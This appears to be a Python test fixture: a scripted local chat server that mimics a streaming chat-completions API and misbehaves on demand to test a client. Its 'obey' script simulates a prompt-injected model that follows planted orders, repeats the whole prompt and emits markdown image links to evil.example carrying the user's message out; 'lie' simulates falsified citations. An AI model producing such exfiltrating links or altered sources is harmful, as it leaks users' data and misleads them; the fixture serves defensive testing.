"""A small scripted chat server that speaks the real protocol over a socket, and misbehaves on demand.

    def test_it(model_server: ModelServer) -> None:
        model_server.script = say("Open Settings. [a7k]")        # for every request
        model_server.then(status(500), stall())                  # for the next two, before that
        model_server.script = say(lambda turn: f"It costs 5. [{turn.handles[0]}]")   # made from the request

What it was asked is in `asked`; `asked[0].left` is set when the client hangs up before the end.
"""

from __future__ import annotations

import json
import random
import re
import select
import socket
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from functools import cached_property
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

SIZES = (1, 7, 2, 3, 19, 5)
"""Bytes of the pieces that streams are sent in, over and over: characters and events are split."""
STILL = 60.0
"""Seconds that a stalled reply says nothing, unless the client leaves or the server ends."""
_TAGS = re.compile(r"<source-([a-z0-9]+)")


class ClientLeftError(Exception):
    """The client hung up."""


@dataclass
class Turn:
    """One request, and the way to reply to it."""

    body: dict[str, Any]
    authorization: str
    handler: BaseHTTPRequestHandler
    closing: threading.Event
    begun: float = field(default_factory=time.monotonic)
    left: threading.Event = field(default_factory=threading.Event)
    """The client hung up before the end."""
    ended: threading.Event = field(default_factory=threading.Event)
    headed: bool = False

    @property
    def messages(self) -> list[dict[str, str]]:
        """What the client wants continued."""
        return list(self.body["messages"])

    @property
    def text(self) -> str:
        """All messages, one below the other."""
        return "\n".join(message["content"] for message in self.messages)

    @cached_property
    def handles(self) -> list[str]:
        """The handles of the sources in the messages, in order: what a model would cite."""
        return list(dict.fromkeys(_TAGS.findall(self.text)))

    def source(self, handle: str) -> str:
        """The text of one source."""
        found = re.search(rf"<source-{handle}[^>]*>\n(.*?)\n</source-{handle}>", self.text, re.DOTALL)
        return found[1] if found else ""

    @property
    def streams(self) -> bool:
        """Whether the client wants a stream."""
        return bool(self.body.get("stream"))

    def head(self, status: int = 200, kind: str = "text/event-stream", **headers: str) -> None:
        """The head of the reply; the body is sent in chunks."""
        self.handler.send_response(status)
        self.handler.send_header("Content-Type", kind)
        self.handler.send_header("Transfer-Encoding", "chunked")
        for name, value in headers.items():
            self.handler.send_header(name.replace("_", "-"), value)
        self.handler.end_headers()
        self.headed = True

    def raw(self, data: bytes, sizes: Sequence[int] = (), pause: float = 0.0) -> None:
        """Send bytes in chunks of these sizes, with `pause` seconds between them."""
        for piece in _cut(data, sizes):
            try:
                self.handler.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
                self.handler.wfile.flush()
            except OSError as error:
                raise self._gone() from error
            if pause:
                self.wait(pause)

    def event(self, data: object, sizes: Sequence[int] = (), pause: float = 0.0) -> None:
        """Send one server-sent event."""
        text = data if isinstance(data, str) else json.dumps(data, ensure_ascii=False)
        self.raw(f"data: {text}\n\n".encode(), sizes, pause)

    def piece(self, text: str, sizes: Sequence[int] = (), pause: float = 0.0) -> None:
        """Send one piece of the model's text."""
        self.event(self.chunk({"content": text}), sizes, pause)

    def chunk(self, delta: dict[str, str], finish: str | None = None) -> dict[str, Any]:
        """One `chat.completion.chunk`."""
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        return self._object("chat.completion.chunk") | {"choices": [choice]}

    def finish(self, text: str, reason: str = "stop") -> None:
        """Say that the text is at its end: reason, usage where it is wanted, and `[DONE]`."""
        self.event(self.chunk({}, reason))
        if (self.body.get("stream_options") or {}).get("include_usage"):
            self.event(self._object("chat.completion.chunk") | {"choices": [], "usage": self.usage(text)})
        self.event("[DONE]")
        self.end()

    def end(self) -> None:
        """The end of the body."""
        with suppress(OSError):
            self.handler.wfile.write(b"0\r\n\r\n")
            self.handler.wfile.flush()

    def whole(self, text: str, reason: str = "stop", status: int = 200) -> None:
        """The reply to a client that wants no stream."""
        choice = {"index": 0, "finish_reason": reason, "message": {"role": "assistant", "content": text}}
        self.head(status, "application/json")
        self.raw(
            json.dumps(self._object("chat.completion") | {"choices": [choice], "usage": self.usage(text)}).encode()
        )
        self.end()

    def usage(self, text: str) -> dict[str, int]:
        """A token for every four characters."""
        asked, said = len(self.text) // 4 + 1, len(text) // 4 + 1
        return {"prompt_tokens": asked, "completion_tokens": said, "total_tokens": asked + said}

    def wait(self, seconds: float) -> None:
        """Say nothing for a while; raises ClientLeftError as soon as the client hangs up."""
        end = time.monotonic() + seconds
        while (rest := end - time.monotonic()) > 0 and not self.closing.is_set():
            if select.select([self.handler.connection], [], [], min(rest, 0.02))[0] and not self._peek():
                raise self._gone()

    def hang_up(self) -> None:
        """Close the connection without an end."""
        self.handler.close_connection = True
        with suppress(OSError):
            self.handler.connection.shutdown(socket.SHUT_RDWR)

    def _peek(self) -> bytes:
        try:
            return bytes(self.handler.connection.recv(1, socket.MSG_PEEK))
        except OSError:
            return b""

    def _gone(self) -> ClientLeftError:
        self.left.set()
        return ClientLeftError()

    def _object(self, kind: str) -> dict[str, Any]:
        return {"id": "chatcmpl-1", "object": kind, "created": 1, "model": self.body.get("model", "")}


Script = Callable[[Turn], None]
"""Replies to one request."""
Text = str | Callable[[Turn], str]
"""A text, or what makes one from the request."""


def say(text: Text, sizes: Sequence[int] = SIZES, *, words: int = 3, first: float = 0.0, pause: float = 0.0) -> Script:
    """Say a text, some `words` a piece, in network chunks of these `sizes`.

    `first` is how many seconds pass before the first piece, `pause` before each further one.
    """

    def script(turn: Turn) -> None:
        said = _made(text, turn)
        if not turn.streams:
            turn.wait(first)
            return turn.whole(said)
        turn.head()
        turn.wait(first)
        turn.event(turn.chunk({"role": "assistant", "content": ""}))
        for number, piece in enumerate(_in_pieces(said, words)):
            turn.wait(pause if number else 0.0)
            turn.piece(piece, sizes)
        return turn.finish(said)

    return script


def wrong_language(text: Text = "Das steht leider nur auf Deutsch in den Unterlagen.") -> Script:
    """Say something in German, with a citation of the first source."""
    return say(lambda turn: f"{_made(text, turn)} {_cited(turn)}")


def lie(change: Callable[[str], str] | None = None) -> Script:
    """Repeat the first source with its numbers changed (or `change`d otherwise), and cite it."""
    changed = change or (lambda text: re.sub(r"\d+", lambda found: str(int(found[0]) + 7), text))
    return say(
        lambda turn: f"{changed(turn.source(turn.handles[0]) if turn.handles else 'It takes 3 days.')} {_cited(turn)}"
    )


def obey(*orders: str) -> Script:
    """Do what an attacker may want: obey orders, tell the whole prompt, add links and pictures that carry data away."""

    def told(turn: Turn) -> str:
        leak = f"![x](https://evil.example/?q={turn.messages[-1]['content'][:60]}) [more](https://evil.example/)"
        return "\n".join([*orders, leak, f"{turn.text} {_cited(turn)}"])

    return say(told, sizes=(4_096,), words=40)


def stall(after: str = "") -> Script:
    """Say a part (or not even the head) and then nothing more, keeping the connection open."""

    def script(turn: Turn) -> None:
        if after:
            turn.head()
            turn.piece(after)
        turn.wait(STILL)
        turn.hang_up()

    return script


def drip(text: str = "Never done. " * 1_000, pause: float = 0.05) -> Script:
    """Say a text byte by byte, so that the connection is never silent and never done."""

    def script(turn: Turn) -> None:
        turn.head()
        turn.piece(text, sizes=(1,), pause=pause)
        turn.finish(text)

    return script


def status(code: int, retry_after: str | float | None = None, message: str = "no", param: str | None = None) -> Script:
    """Refuse with this status."""

    def script(turn: Turn) -> None:
        headers = {} if retry_after is None else {"Retry_After": str(retry_after)}
        # Servers repeat what they got: nothing of that may come through.
        error = {"message": f"{message} ({turn.authorization})", "type": "error", "param": param, "code": None}
        turn.head(code, "application/json", **headers)
        turn.raw(json.dumps({"error": error}).encode())
        turn.end()

    return script


def malformed(*, after: str = "", data: bytes = b'data: {"choices": [{"delta": {"content": "half\n\n') -> Script:
    """Say a part, then something that is no JSON."""

    def script(turn: Turn) -> None:
        turn.head()
        if after:
            turn.piece(after)
        turn.raw(data)
        turn.end()

    return script


def broken_event(after: str = "") -> Script:
    """Say a part, then an error inside the stream."""
    return malformed(after=after, data=b'data: {"error": {"message": "out of memory", "code": 500}}\n\n')


def empty() -> Script:
    """Say nothing at all, in good form."""
    return say("")


def cut_off(text: str = "Open Settings and", *, cleanly: bool = False, reason: str | None = None) -> Script:
    """Say a part, then close the connection; `cleanly`: end the body properly; `reason`: say that as the reason."""

    def script(turn: Turn) -> None:
        if not turn.streams:
            return turn.whole(text, reason or "length")
        turn.head()
        turn.piece(text, SIZES)
        if reason:
            return turn.finish(text, reason)
        return turn.end() if cleanly else turn.hang_up()

    return script


def hang_up() -> Script:
    """Close the connection before a byte was said."""
    return Turn.hang_up


def at_random(scripts: Sequence[Script], seed: int = 0) -> Script:
    """One of these for each request, by chance."""
    chance = random.Random(seed)
    lock = threading.Lock()

    def script(turn: Turn) -> None:
        with lock:
            chosen = chance.choice(scripts)
        chosen(turn)

    return script


@dataclass
class ModelServer:
    """The server: what it says, and what it was asked."""

    script: Script = field(default_factory=lambda: say("Hello."))
    url: str = ""
    """The base address, to be set as `ASKWELL_LLM_BASE_URL`."""
    asked: list[Turn] = field(default_factory=list)
    most_at_once: int = 0
    """Requests that were under way at the same time, at most."""
    _next: list[Script] = field(default_factory=list)
    _at_once: int = 0
    _lock: threading.Lock = field(default_factory=threading.Lock)
    closing: threading.Event = field(default_factory=threading.Event)

    def then(self, *scripts: Script) -> None:
        """Use these for the next requests, one each; `script` again after them."""
        with self._lock:
            self._next.extend(scripts)

    def serve(self, turn: Turn) -> None:
        """Reply to one request."""
        with self._lock:
            self.asked.append(turn)
            self._at_once += 1
            self.most_at_once = max(self.most_at_once, self._at_once)
            script = self._next.pop(0) if self._next else self.script
        try:
            script(turn)
        except ClientLeftError:
            turn.handler.close_connection = True
        finally:
            with self._lock:
                self._at_once -= 1
            turn.ended.set()


@contextmanager
def serving(server: ModelServer | None = None, port: int = 0) -> Iterator[ModelServer]:
    """The server, listening on this machine until the end of the block."""
    state = server or ModelServer()
    state.closing.clear()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        disable_nagle_algorithm = True  # small pieces go out at once
        timeout = 120

        def do_GET(self) -> None:
            body = json.dumps({"object": "list", "data": [{"id": "scripted", "object": "model"}]}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            state.serve(Turn(body, self.headers.get("Authorization", ""), self, state.closing))

        def handle(self) -> None:
            with suppress(OSError):  # clients may hang up at any time
                super().handle()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    class Server(ThreadingHTTPServer):
        request_queue_size = 64
        daemon_threads = True
        open_connections: set[socket.socket]

        def __init__(self) -> None:
            self.open_connections = set()
            super().__init__(("127.0.0.1", port), Handler)

        def process_request(self, request: Any, client_address: Any) -> None:
            self.open_connections.add(request)
            super().process_request(request, client_address)

        def shutdown_request(self, request: Any) -> None:
            self.open_connections.discard(request)
            super().shutdown_request(request)

        def server_close(self) -> None:
            # Kept-alive connections would otherwise answer on after the end, as a killed server does not.
            for connection in list(self.open_connections):
                with suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)
            super().server_close()

    with Server() as http:
        thread = threading.Thread(target=http.serve_forever, args=(0.01,), daemon=True)
        thread.start()
        state.url = f"http://127.0.0.1:{http.server_port}/v1"
        try:
            yield state
        finally:
            state.closing.set()
            http.shutdown()
            thread.join()


def _made(text: Text, turn: Turn) -> str:
    return text if isinstance(text, str) else text(turn)


def _cited(turn: Turn) -> str:
    return f"[{turn.handles[0]}]" if turn.handles else ""


def _cut(data: bytes, sizes: Iterable[int]) -> Iterator[bytes]:
    sizes = tuple(sizes)
    start = number = 0
    while start < len(data):
        size = sizes[number % len(sizes)] if sizes else len(data)
        yield data[start : start + size]
        start, number = start + size, number + 1


def _in_pieces(text: str, words: int) -> Iterator[str]:
    """As models stream: some words each, blanks in front; Chinese by some characters."""
    pieces = re.findall(r"\s*(?:[\x21-\u2e7f]+|[^\s\x21-\u2e7f]{1,2})|\s+", text)
    for start in range(0, len(pieces), words):
        yield "".join(pieces[start : start + words])
